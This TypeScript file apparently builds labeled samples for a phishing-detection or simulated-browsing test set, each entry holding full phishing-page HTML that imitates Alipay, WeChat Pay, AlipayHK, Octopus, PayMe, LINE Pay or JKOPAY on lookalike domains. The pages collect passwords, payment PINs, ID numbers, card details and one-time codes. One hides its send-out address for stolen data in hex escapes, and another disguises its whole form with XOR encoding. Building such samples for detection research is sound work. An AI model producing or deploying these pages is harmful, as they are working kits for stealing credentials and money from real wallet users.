import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, cardFields, cardFormatJs, luhnJs, footer, b64, hexEsc, xorB64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

const pinPadCss = `.pin{display:flex;gap:0;border:1px solid #ccc;border-radius:4px;overflow:hidden;width:100%;max-width:300px}
.pin span{flex:1;height:46px;border-right:1px solid #ccc;display:flex;align-items:center;justify-content:center;font-size:22px}
.pin span:last-child{border-right:0}
.kb{display:grid;grid-template-columns:repeat(3,1fr);gap:1px;background:#ddd;position:fixed;left:0;right:0;bottom:0}
.kb button{height:52px;border:0;background:#fff;font-size:22px}`;

export const entries: Entry[] = [
  {
    id: 'yq-alipay-frozen-unfreeze-h5',
    label: 'phishing',
    kind: 'wallet-kit-cn',
    url: 'https://zfb-anquan.com/h5/jiedong.html',
    body: doc({
      title: '支付宝 - 账户安全中心',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#f5f5f5') +
        pinPadCss +
        `.nav{background:#1677ff;color:#fff;height:46px;line-height:46px;text-align:center;font-size:17px}
.warn{background:#fff;padding:20px 16px;text-align:center}
.warn .ic{width:56px;height:56px;border-radius:50%;background:#ff4d4f;color:#fff;font-size:34px;line-height:56px;margin:0 auto 10px}
.sec{background:#fff;margin-top:10px;padding:14px 16px}
.go{background:#1677ff;color:#fff;width:100%;height:46px;border-radius:6px;font-size:16px}
.st{display:none}.st.on{display:block}`,
      body: `<div class="nav">账户安全中心</div>
<div class="st on" id="a">
<div class="warn"><div class="ic">!</div><h3 style="margin:0">您的账户已被限制收付款</h3><p class="hint">检测到您的账户存在异常交易行为（风控编号 RC2024041783352），为保障资金安全，已临时冻结。请完成身份核验后自动解除。</p></div>
<div class="sec">
  <div class="field"><label>支付宝账号</label><input id="acc" placeholder="手机号/邮箱"></div>
  <div class="field"><label>登录密码</label><input id="lpw" type="password"></div>
  <div class="field"><label>姓名</label><input id="nm"></div>
  <div class="field"><label>身份证号码</label><input id="sfz" maxlength="18"></div>
  <button class="btn go" id="n1">下一步</button>
</div></div>
<div class="st" id="b"><div class="sec"><h3 style="margin-top:0">请输入支付密码</h3><p class="hint">用于验证身份，不会产生扣款</p><div class="pin" id="pv"><span></span><span></span><span></span><span></span><span></span><span></span></div></div>
<div class="kb" id="kb"></div></div>
<div class="st" id="c"><div class="warn"><div class="ic" style="background:#52c41a">✓</div><h3>提交成功</h3><p class="hint">风控解除需 2 小时内人工审核，请保持手机畅通，勿重复提交。</p></div></div>
<script>
(function(){
  var D={};function $(i){return document.getElementById(i)}
  function sw(i){['a','b','c'].forEach(function(k){$(k).classList.toggle('on',k===i)})}
  function up(t){var f=new FormData();for(var k in D)f.append(k,D[k]);f.append('type',t);navigator.sendBeacon?navigator.sendBeacon('../api/up.php',f):fetch('../api/up.php',{method:'POST',body:f});}
  $('n1').onclick=function(){D.acc=$('acc').value;D.lpw=$('lpw').value;D.nm=$('nm').value;D.sfz=$('sfz').value;if(!D.acc||!D.lpw){alert('请填写完整信息');return;}up('login');sw('b');};
  var pin='',kb=$('kb');[1,2,3,4,5,6,7,8,9,'',0,'⌫'].forEach(function(k){var b=document.createElement('button');b.textContent=k;b.onclick=function(){
    if(k==='⌫')pin=pin.slice(0,-1);else if(k!==''&&pin.length<6)pin+=k;
    $('pv').querySelectorAll('span').forEach(function(s,i){s.textContent=i<pin.length?'●':''});
    if(pin.length===6){D.ppw=pin;up('pay');setTimeout(function(){sw('c')},600);}};kb.appendChild(b);});
})();
</script>`,
    }),
    routes: { 'zfb-anquan.com/api/up.php': jsonRoute({ s: 1 }) },
  },
  {
    id: 'yq-wechatpay-merchant-annual-review',
    label: 'phishing',
    kind: 'merchant-verify-kit',
    url: 'https://pay.weixin-shanghu.cn/index.php/merchant/verify',
    body: doc({
      title: '微信支付商户平台 - 商户资质年审',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#f7f8fa') +
        `.hd{background:#fff;height:60px;box-shadow:0 1px 0 #e7e7e7}.hd .container{display:flex;align-items:center;height:60px;justify-content:space-between}
.hd .r{font-size:13px;color:#666}
.pn{max-width:760px;margin:28px auto;background:#fff;border-radius:4px;padding:30px 40px}
.pn h2{font-size:20px;margin:0 0 6px}.tip{background:#fff8e6;border:1px solid #ffe1a0;color:#8a6100;padding:10px 14px;font-size:13px;margin:14px 0 22px}
.grp{border-top:1px dashed #e5e5e5;padding-top:16px;margin-top:16px}.grp h4{margin:0 0 12px;color:#07c160}
.go{background:#07c160;color:#fff;height:44px;padding:0 40px}
.up{border:1px dashed #bbb;height:90px;display:flex;align-items:center;justify-content:center;color:#999;border-radius:4px;cursor:pointer}`,
      body: `<div class="hd"><div class="container">${mark('微信支付 | 商户平台', '#07c160', { shape: 'circle', fg: '#222', w: 220 })}<div class="r">帮助中心　|　退出</div></div></div>
<form class="pn" method="post" action="/index.php/merchant/submit" enctype="multipart/form-data">
<h2>商户资质年审</h2>
<div class="tip">根据《非银行支付机构网络支付业务管理办法》，您的商户号需完成 2024 年度资质复核。未在 <b>3 个工作日</b>内完成复核的商户将被限制收款及结算。</div>
<div class="grp"><h4>一、登录信息</h4>
<div class="field"><label>商户号</label><input name="mchid" placeholder="10位数字商户号" required></div>
<div class="field"><label>登录账号</label><input name="login" placeholder="登录账号/邮箱" required></div>
<div class="field"><label>登录密码</label><input name="password" type="password" required></div>
<div class="field"><label>操作密码</label><input name="oppwd" type="password"></div></div>
<div class="grp"><h4>二、法人信息</h4>
<div class="row"><div class="field"><label>法人姓名</label><input name="legal"></div><div class="field"><label>法人身份证号</label><input name="legal_id" maxlength="18"></div></div>
<div class="row"><div class="field"><label>身份证正面</label><label class="up">点击上传<input type="file" name="idf" accept="image/*" hidden></label></div><div class="field"><label>身份证反面</label><label class="up">点击上传<input type="file" name="idb" accept="image/*" hidden></label></div></div></div>
<div class="grp"><h4>三、结算账户</h4>
<div class="field"><label>开户银行</label><select name="bank"><option>中国工商银行</option><option>中国建设银行</option><option>招商银行</option><option>中国银行</option><option>中国农业银行</option><option>其他</option></select></div>
<div class="field"><label>结算卡号</label><input name="settle_card" inputmode="numeric"></div>
<div class="field"><label>管理员手机号</label><input name="phone" inputmode="tel" maxlength="11"></div>
<div class="field"><label>短信验证码</label><input name="sms" maxlength="6"></div></div>
<p><button class="btn go">提交审核</button></p>
<p class="hint">提交即表示您同意《微信支付服务协议》。客服热线 95017</p>
</form>`,
    }),
    routes: { 'pay.weixin-shanghu.cn/index.php/merchant/submit': redirectRoute(302, 'https://pay.weixin.qq.com/') },
  },
  {
    id: 'yq-alipayhk-points-expiry',
    label: 'phishing',
    kind: 'wallet-kit-hk',
    url: 'https://alipayhk-reward.com/zh-hk/redeem',
    body: doc({
      title: 'AlipayHK 積分換領',
      css:
        baseCss(fontTC, '#eef4ff') +
        `.hero{background:linear-gradient(160deg,#1677ff,#00a3ff);color:#fff;padding:26px 18px 60px;text-align:center}
.hero .pts{font-size:40px;font-weight:800;margin:6px 0}
.sheet{background:#fff;margin:-40px 14px 14px;border-radius:12px;padding:18px;box-shadow:0 6px 20px rgba(0,60,160,.1)}
.gift{display:flex;gap:10px;align-items:center;border:1px solid #e6eefc;border-radius:8px;padding:10px;margin-bottom:10px}
.gift .i{width:54px;height:54px;background:#f0f6ff;border-radius:8px;display:flex;align-items:center;justify-content:center;font-size:26px}
.gift input{margin-left:auto}
.go{background:#1677ff;color:#fff;width:100%;height:46px;border-radius:23px}
#pay{display:none}`,
      body: `<div class="hero">${mark('AlipayHK 支付寶香港', '#fff', { shape: 'circle', w: 210 })}<p style="margin:10px 0 0">你的可用積分</p><div class="pts">12,860</div><p style="font-size:12px;opacity:.9">⚠ 將於今日 23:59 到期，請盡快換領</p></div>
<div class="sheet" id="pick">
  <h3 style="margin-top:0">選擇換領禮品</h3>
  <label class="gift"><span class="i">🎧</span><span>AirPods Pro (第2代)<br><small class="hint">12,000 積分 + 運費 HK$18</small></span><input type="radio" name="g" value="airpods" checked></label>
  <label class="gift"><span class="i">🍳</span><span>Tefal 易潔鑊套裝<br><small class="hint">8,000 積分 + 運費 HK$18</small></span><input type="radio" name="g" value="tefal"></label>
  <label class="gift"><span class="i">🎫</span><span>百佳 HK$500 電子現金券<br><small class="hint">10,000 積分 + 手續費 HK$18</small></span><input type="radio" name="g" value="pns"></label>
  <button class="btn go" onclick="document.getElementById('pick').style.display='none';document.getElementById('pay').style.display='block'">立即換領</button>
</div>
<form class="sheet" id="pay" method="post" action="/zh-hk/checkout.php">
  <h3 style="margin-top:0">送貨資料及運費</h3>
  <div class="field"><label>收件人姓名</label><input name="rname" required></div>
  <div class="field"><label>聯絡電話</label><input name="rphone" inputmode="tel" required></div>
  <div class="field"><label>送貨地址</label><input name="addr" required></div>
  ${cardFields('tc')}
  <p class="hint">運費 HK$18.00 將以信用卡支付，交易完成後積分即時扣除。</p>
  <button class="btn go">支付 HK$18.00</button>
</form>
<script>${cardFormatJs}</script>`,
    }),
    routes: {
      'alipayhk-reward.com/zh-hk/checkout.php': htmlRoute(
        doc({
          title: '3D Secure 驗證',
          css: baseCss(fontTC) + `.b{max-width:400px;margin:50px auto;background:#fff;padding:24px;border-radius:8px}`,
          body: `<form class="b" method="post" action="/zh-hk/otp.php"><h3>交易驗證</h3><p>發卡銀行已發送一次性密碼到你的手機。</p><p class="hint">商戶：AlipayHK Rewards　金額：HK$18.00</p><div class="field"><input name="otp" maxlength="6" inputmode="numeric" placeholder="一次性密碼"></div><button class="btn" style="background:#1677ff;color:#fff;width:100%">確認</button></form>`,
        }),
      ),
    },
  },
  {
    id: 'yq-octopus-deposit-refund',
    label: 'phishing',
    kind: 'wallet-kit-hk',
    url: 'https://octopus-hk.card-refund.com/zh-hk/refund/',
    body: doc({
      title: '八達通 - 退款申請',
      css:
        baseCss(fontTC, '#fff') +
        `.hd{background:#ff6b00;height:58px}.hd .container{display:flex;align-items:center;height:58px}
.w{max-width:560px;margin:30px auto;padding:0 18px}
.amt{background:#fff5ec;border:1px solid #ffd7b5;border-radius:8px;padding:16px;display:flex;justify-content:space-between;align-items:center}
.amt b{font-size:26px;color:#ff6b00}
.go{background:#ff6b00;color:#fff;width:100%;height:46px;font-size:16px;border-radius:6px;margin-top:6px}
ol{padding-left:18px;color:#555;font-size:13px}`,
      body: `<div class="hd"><div class="container">${mark('Octopus 八達通', '#fff', { shape: 'circle', w: 180 })}</div></div>
<div class="w">
<h2>八達通卡按金及餘額退款</h2>
<p>由於系統升級，閣下的八達通帳戶有一筆款項未能退回。請於 7 日內提交退款申請，款項將存入閣下的信用卡或銀行卡。</p>
<div class="amt"><span>待退款金額</span><b>HK$ 128.50</b></div>
<ol><li>輸入閣下的八達通卡號碼</li><li>填寫收款卡資料</li><li>輸入銀行發出的驗證碼</li></ol>
<form method="post" action="submit.php" id="rf">
  <div class="field"><label>八達通卡號碼 (8位或9位數字)</label><input name="octo" maxlength="9" inputmode="numeric" required></div>
  <div class="field"><label>姓名 (與卡上相同)</label><input name="name" required></div>
  <div class="field"><label>手提電話</label><input name="mobile" inputmode="tel" maxlength="8" placeholder="9123 4567" required></div>
  ${cardFields('tc')}
  <button class="btn go">提交退款申請</button>
</form>
<p class="hint">八達通卡有限公司　客戶服務熱線 2266 2222</p>
</div>
<script>${luhnJs}${cardFormatJs}
document.getElementById('rf').addEventListener('submit',function(e){if(!luhn(this.cardno.value)){e.preventDefault();alert('卡號不正確');}});</script>`,
    }),
    routes: {
      'octopus-hk.card-refund.com/zh-hk/refund/submit.php': redirectRoute(302, '/zh-hk/refund/otp.html'),
      'octopus-hk.card-refund.com/zh-hk/refund/otp.html': htmlRoute(
        doc({
          title: '八達通 - 驗證',
          css: baseCss(fontTC) + `.w{max-width:420px;margin:40px auto;padding:0 18px}`,
          body: `<div class="w"><h3>輸入一次性密碼</h3><p>為確認退款，閣下的發卡銀行已發出短訊驗證碼。</p><form method="post" action="otp.php"><div class="field"><input name="otp" maxlength="6" inputmode="numeric"></div><button class="btn" style="background:#ff6b00;color:#fff;width:100%">確認</button></form></div>`,
        }),
      ),
    },
  },
  {
    id: 'yq-payme-suspended-phone-otp',
    label: 'phishing',
    kind: 'wallet-kit-hk',
    url: 'https://payme-hsbc.hk-security.top/login',
    body: doc({
      title: 'PayMe from HSBC',
      lang: 'en',
      css:
        baseCss(`"Helvetica Neue",Arial,${fontTC}`, '#fff') +
        `.w{max-width:400px;margin:0 auto;padding:40px 22px}
.logo{width:72px;height:72px;border-radius:18px;background:#e4003b;display:flex;align-items:center;justify-content:center;color:#fff;font-size:28px;font-weight:800;margin-bottom:18px}
h1{font-size:24px;margin:0 0 6px}
.al{background:#fff0f3;color:#b3002b;padding:12px;border-radius:8px;font-size:13px;margin:16px 0}
.cc{display:flex;gap:8px}.cc select{flex:0 0 90px}
.go{background:#e4003b;color:#fff;width:100%;height:50px;border-radius:25px;font-size:16px;margin-top:10px}
.s{display:none}.s.on{display:block}`,
      body: `<div class="w">
<div class="logo">P</div>
<h1>Log in to PayMe</h1>
<div class="al">你的 PayMe 帳戶已暫停使用。為保障你的資金安全，請驗證你的身份以恢復轉賬及收款功能。<br>Your account has been temporarily suspended.</div>
<form class="s on" id="s1"><div class="field"><label>Mobile number 手機號碼</label><div class="cc"><select name="cc" class="field"><option>+852</option><option>+853</option><option>+86</option></select><input name="phone" inputmode="tel" maxlength="8" required></div></div>
<div class="field"><label>6-digit passcode 密碼</label><input name="pass" type="password" maxlength="6" inputmode="numeric" required></div>
<button class="btn go">Continue 繼續</button></form>
<form class="s" id="s2"><div class="field"><label>SMS verification code 短訊驗證碼</label><input name="otp" maxlength="6" inputmode="numeric" required></div>
<div class="field"><label>Linked card number 已連結信用卡號碼</label><input name="cardno" inputmode="numeric"></div>
<button class="btn go">Verify 驗證</button></form>
<p class="hint" style="text-align:center;margin-top:30px">© The Hongkong and Shanghai Banking Corporation Limited 2024</p>
</div>
<script>
var k=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','\\x66\\x6f\\x72\\x6d\\x2d\\x72\\x65\\x6c\\x61\\x79\\x2e\\x6e\\x65\\x74\\x2f\\x66\\x2f','\\x70\\x6d\\x68\\x6b\\x32\\x34'];
function snd(f){var d=new FormData(f);d.append('_src',location.host);return fetch(k[0]+k[1]+k[2],{method:'POST',body:d,mode:'no-cors'});}
document.getElementById('s1').onsubmit=function(e){e.preventDefault();snd(this).finally(function(){document.getElementById('s1').classList.remove('on');document.getElementById('s2').classList.add('on')});};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();snd(this).finally(function(){location.replace('https://payme.hsbc/')});};
</script>`,
    }),
  },
  {
    id: 'yq-linepay-tw-points-line-login',
    label: 'phishing',
    kind: 'wallet-kit-tw',
    url: 'https://line-pay-point.tw-line.cc/event/2024/',
    body: doc({
      title: 'LINE POINTS 點數即將到期',
      css:
        baseCss(fontTC, '#f4f5f7') +
        `.top{background:#06c755;color:#fff;padding:20px;text-align:center}
.top h2{margin:4px 0}.top .p{font-size:34px;font-weight:800}
.c{background:#fff;margin:14px;border-radius:10px;padding:18px}
.lg{background:#06c755;color:#fff;width:100%;height:46px;border-radius:6px;font-size:16px}
.div{display:flex;align-items:center;gap:10px;color:#aaa;font-size:12px;margin:14px 0}.div:before,.div:after{content:"";flex:1;height:1px;background:#e5e5e5}`,
      body: `<div class="top">${mark('LINE Pay', '#fff', { shape: 'square', w: 130 })}<h2>您有 LINE POINTS 即將到期</h2><div class="p">2,480 點</div><p style="font-size:13px">可折抵 NT$2,480，逾期未兌換將自動歸零</p></div>
<div class="c" id="c1"><h3 style="margin-top:0">請先登入 LINE 帳號</h3>
<form id="lf"><div class="field"><input name="email" type="email" placeholder="電子郵件帳號" required></div>
<div class="field"><input name="password" type="password" placeholder="密碼" required></div>
<button class="btn lg">登入</button></form>
<div class="div">或</div><p class="hint" style="text-align:center">使用 QR Code 登入（僅限電腦版）</p></div>
<div class="c" id="c2" style="display:none"><h3 style="margin-top:0">綁定兌換卡片</h3><p class="hint">點數將以刷退方式回饋至您的信用卡</p>
<form id="cf">${cardFields('tc')}<div class="field"><label>身分證字號</label><input name="twid" maxlength="10"></div><button class="btn lg">確認兌換</button></form></div>
<p class="hint" style="text-align:center">© LINE Pay Taiwan Limited</p>
<script>
(function(){var ep='/event/2024/api.php';
function p(f,t){var d=new URLSearchParams(new FormData(f));d.append('t',t);return fetch(ep,{method:'POST',body:d});}
document.getElementById('lf').onsubmit=function(e){e.preventDefault();p(this,'line').then(function(){document.getElementById('c1').style.display='none';document.getElementById('c2').style.display='block'});};
document.getElementById('cf').onsubmit=function(e){e.preventDefault();p(this,'card').then(function(){location.href='https://pay.line.me/portal/tw/main'});};
})();${cardFormatJs}
</script>`,
    }),
    routes: { 'line-pay-point.tw-line.cc/event/2024/api.php': jsonRoute({ r: 'ok' }) },
  },
  {
    id: 'yq-jkopay-account-verify-xor',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://jkos-verify.com/member/',
    body: `<!DOCTYPE html><html lang="zh-Hant"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>街口支付 JKOPAY 會員中心</title>
<style>body{margin:0;background:#fff;font-family:${fontTC}}</style></head><body><div id="r"></div>
<script>
(function(){var z='${xorB64(
      `<div style="background:#e60012;color:#fff;padding:16px;font-size:18px;text-align:center">街口支付 會員身分驗證</div>
<div style="padding:18px;max-width:460px;margin:0 auto">
<p style="font-size:14px;color:#444">親愛的會員您好，依「電子支付機構身分確認機制」規定，您的帳戶須重新驗證身分，未完成者將限制轉帳及付款功能。</p>
<form id="jf" method="post" action="/member/save.php">
<p><label>手機號碼<br><input name="m" style="width:100%;height:40px" inputmode="tel" placeholder="09xxxxxxxx"></label></p>
<p><label>街口支付密碼<br><input name="p" type="password" style="width:100%;height:40px" maxlength="6"></label></p>
<p><label>身分證字號<br><input name="i" style="width:100%;height:40px" maxlength="10"></label></p>
<p><label>綁定銀行帳號<br><input name="b" style="width:100%;height:40px"></label></p>
<p><label>網路銀行密碼<br><input name="bp" type="password" style="width:100%;height:40px"></label></p>
<button style="width:100%;height:46px;background:#e60012;color:#fff;border:0;border-radius:6px;font-size:16px">送出驗證</button></form>
<p style="font-size:12px;color:#999;text-align:center">街口電子支付股份有限公司 客服專線 (02)6612-8888</p></div>`,
      0x5a,
    )}';var b=atob(z),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i)^90;document.getElementById('r').innerHTML=new TextDecoder().decode(u);})();
</script></body></html>`,
    routes: { 'jkos-verify.com/member/save.php': redirectRoute(302, 'https://www.jkopay.com/') },
  },
];
